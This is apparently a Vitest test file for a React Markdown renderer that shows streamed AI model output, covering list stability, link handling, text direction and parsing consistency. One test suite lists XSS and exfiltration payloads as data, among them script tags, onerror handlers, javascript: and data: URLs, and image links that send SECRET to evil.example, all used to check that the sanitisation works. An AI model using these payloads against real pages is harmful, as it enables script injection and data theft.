import { render, waitFor } from '@testing-library/react';
import * as fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { Markdown } from './markdown.tsx';
import { ParsedBlock } from './parsed-block.tsx';
import { splitBlocks } from './split-blocks.ts';
import { document as documents } from './testing/documents.ts';
import { processor } from './to-elements.ts';

/** Renders until the parser, which is loaded on demand, has taken over. */
async function show(text: string, live = false) {
  const { container, rerender, unmount } = render(<Markdown text={text} live={live} />);
  await waitFor(() => expect(isParsed(container)).toBe(true));
  const grow = (next: string, more: boolean) => {
    rerender(<Markdown text={next} live={more} />);
    expect(isParsed(container)).toBe(true);
  };
  return { container, grow, unmount };
}

function isParsed(container: HTMLElement) {
  return container.querySelector('.whitespace-pre-wrap') === null;
}

beforeAll(async () => {
  await show('warm');
});

test('the items of a long list are of one list, and stay the same elements while it grows', async () => {
  const list = Array.from({ length: 200 }, (_, n) => `- item ${n}`).join('\n');
  const { container, grow } = await show(list, true);
  const items = [...container.querySelectorAll('ul > li')];
  expect(items).toHaveLength(200);
  grow(`${list}\n- a **b`, true);
  grow(`${list}\n- a **b**\n\nwords`, false);
  expect(container.querySelectorAll('ul')).toHaveLength(1);
  const after = [...container.querySelectorAll('ul > li')];
  expect(after.map((item) => item.textContent).at(-1)).toBe('a b');
  expect(after.slice(0, 100)).toEqual(items.slice(0, 100));
  expect(after[0]).toBe(items[0]);
});

test('a numbered list whose items stand apart is one list at every moment, and its items stay', async () => {
  const items = (from: number, to: number) =>
    Array.from(
      { length: to - from },
      (_, n) => `${from + n}. Item ${from + n}.\n\n     More of it.\n\n`,
    ).join('');
  const start = items(10, 90);
  const { container, grow } = await show(start, true);
  const first = [...container.querySelectorAll('ol > li')].slice(0, 40);
  const whole = start + items(90, 96);
  for (let end = start.length; end <= whole.length; end += 1) {
    grow(whole.slice(0, end), true);
    expect(container.querySelectorAll('ol')).toHaveLength(1);
    expect(container.querySelector('.block > p')).toBeNull();
  }
  expect(container.querySelectorAll('ol > li > p')).toHaveLength(2 * 86);
  expect([...container.querySelectorAll('ol > li')].slice(0, 40)).toEqual(first);
  grow(`${whole}97`, false);
  expect(container.querySelector('.block > p')?.textContent).toBe('97');
});

describe('what a model writes never runs and never loads', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1) "t")',
    '![x](https://evil.example/?d=SECRET)',
    '![a][r]\n\n[r]: https://evil.example/?d=SECRET',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
    '<div style="background:url(https://evil.example/c)" onclick="alert(1)">x</div>',
    '<https://evil.example/a"onmouseover="alert(1)>',
    '```html\n<script>alert(1)</script>\n```',
  ];
  const loading =
    'script,img,iframe,object,embed,video,audio,picture,source,link,style,form,svg:not(.lucide)';

  test.each(payloads)('%s', async (payload) => {
    for (const text of [payload, `words ${payload} words`, `- ${payload}`, `| a |\n|---|\n| ${payload} |`]) {
      const { container } = await show(text);
      expect([...container.querySelectorAll(loading)]).toEqual([]);
      for (const element of container.querySelectorAll('*'))
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on/);
          expect(`${name}=${value}`).not.toMatch(/javascript:|data:|url\(/i);
          if (name === 'src' || name === 'srcset') throw new Error(`${name} on ${element.tagName}`);
        }
      for (const link of container.querySelectorAll('a')) {
        expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
        expect(link.rel).toContain('noopener');
        expect(link.target).toBe('_blank');
      }
    }
  });
});

test('a link says where it leads without being another text for it', async () => {
  const { container } = await show(
    '[the **docs**](https://a.example/x), [bank.com](https://evil.example/), https://b.example and `code`',
  );
  expect(container.textContent).toBe('the docs, bank.com, https://b.example and code');
  const links = [...container.querySelectorAll('a')];
  expect(links.map(({ dataset }) => [dataset['host'], dataset['said']])).toEqual([
    ['a.example', 'quietly'],
    ['evil.example', 'always'],
    ['b.example', 'never'],
  ]);
  expect(links.map(({ title }) => title)).toEqual(links.map(({ href }) => href));
});

test('a link is the same element when what it is called has grown', async () => {
  const { container, grow } = await show('See [the docs](https://a.example/x) for', true);
  const link = container.querySelector('a');
  grow('See [the docs](https://a.example/x) for more, and [an', true);
  expect(container.querySelector('a')).toBe(link);
  expect(container.querySelectorAll('a')).toHaveLength(1);
});

test('shows an image as a link that names it', async () => {
  const { container } = await show('![a chart](https://a.example/c.png)');
  expect(container.querySelector('a')?.href).toBe('https://a.example/c.png');
  expect(container.textContent).toBe('a chart');
});

test('shows an image that this server keeps, and no other way to its addresses', async () => {
  const own = '/api/attachments/01990000-0000-7000-8000-000000000001';
  const { container } = await show(`![a plan](${own})`);
  expect(container.querySelector('img')?.getAttribute('src')).toBe(own);
  expect(container.querySelector('img')?.alt).toBe('a plan');
  for (const other of [`${own}/../../sessions`, `//evil.example${own}`, `${own}?x=1`, '/api/sessions']) {
    const { container: without } = await show(`![x](${other})`);
    expect(without.querySelector('img')).toBeNull();
  }
});

test('shows raw HTML as text', async () => {
  const { container } = await show('<b>not bold</b>');
  expect(container.querySelector('b')).toBeNull();
  expect(container.textContent).toContain('<b>not bold</b>');
});

test('each block runs in the direction of its own words, code always from left to right', async () => {
  const { container } = await show('Hello\n\nمرحبا `a`\n\n```\nמספר = 1\n```');
  const blocks = [...container.querySelectorAll('.block')];
  expect(blocks.map((block) => block.getAttribute('dir'))).toEqual(['auto', 'auto', 'auto']);
  expect(container.querySelector('pre')?.closest('[dir]')?.getAttribute('dir')).toBe('ltr');
});

test('finds emphasis beside Chinese punctuation', async () => {
  const { container } = await show('**结论：**这是对的。');
  expect(container.querySelector('strong')?.textContent).toBe('结论：');
});

test('resolves a reference to a definition in another block', async () => {
  const { container } = await show('See [this][r].\n\nMore.\n\n[r]: https://a.example/');
  expect(container.querySelector('a')?.href).toBe('https://a.example/');
});

test('keeps the elements of finished blocks while the text grows', async () => {
  const { container, grow } = await show('First **block**.\n\nSecond', true);
  const first = container.querySelector('strong');
  grow('First **block**.\n\nSecond goes on\n\nThird', true);
  expect(container.querySelector('strong')).toBe(first);
  expect(container.querySelectorAll('.block')).toHaveLength(3);
});

test('never parses a finished block again, however long the text grows', async () => {
  const { grow } = await show('Start.', true);
  const parse = vi.spyOn(processor, 'parse');
  let text = 'Start.';
  let updates = 0;
  for (let n = 0; n < 120; n += 1)
    for (const more of [`\n\nBlock **${n}**`, ' goes on', ' and on.']) {
      text += more;
      updates += 1;
      grow(text, true);
    }
  grow(text, false);
  // Each update parses the block that grows; each block is parsed once more when it is finished.
  expect(parse.mock.calls.length).toBeLessThanOrEqual(updates + 122);
  for (const [source] of parse.mock.calls)
    expect(String(source).match(/Block/g)?.length ?? 0).toBeLessThan(2);
  parse.mockRestore();
});

test('shows a half-written ending as if it were whole, and the end as it is', async () => {
  const { container, grow } = await show('a **bo', true);
  expect(container.querySelector('strong')?.textContent).toBe('bo');
  grow('a **bo', false);
  expect(container.querySelector('strong')).toBeNull();
  expect(container.textContent).toBe('a **bo');
});

test('has the same final elements whatever the pieces it arrived in', () => {
  fc.assert(
    fc.property(documents, fc.array(fc.nat(), { maxLength: 8 }), (text, cuts) => {
      const pieces = render(<Markdown text="" live />);
      for (const end of cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b))
        pieces.rerender(<Markdown text={text.slice(0, end)} live />);
      pieces.rerender(<Markdown text={text} />);
      const whole = render(<Markdown text={text} />);
      expect(isParsed(whole.container)).toBe(true);
      expect(pieces.container.innerHTML).toBe(whole.container.innerHTML);
      pieces.unmount();
      whole.unmount();
    }),
    { numRuns: 30 },
  );
});

test('looks in blocks as it does in one piece', () => {
  const html = (text: string) =>
    renderToStaticMarkup(<ParsedBlock text={text} live={false} />)
      .slice('<div class="block" dir="auto">'.length, -'</div>'.length)
      .replace(/\s*\n\s*/g, '');
  fc.assert(
    fc.property(documents, (text) => {
      expect(splitBlocks(text).map(html).join('')).toBe(html(text));
    }),
    { numRuns: 150 },
  );
});
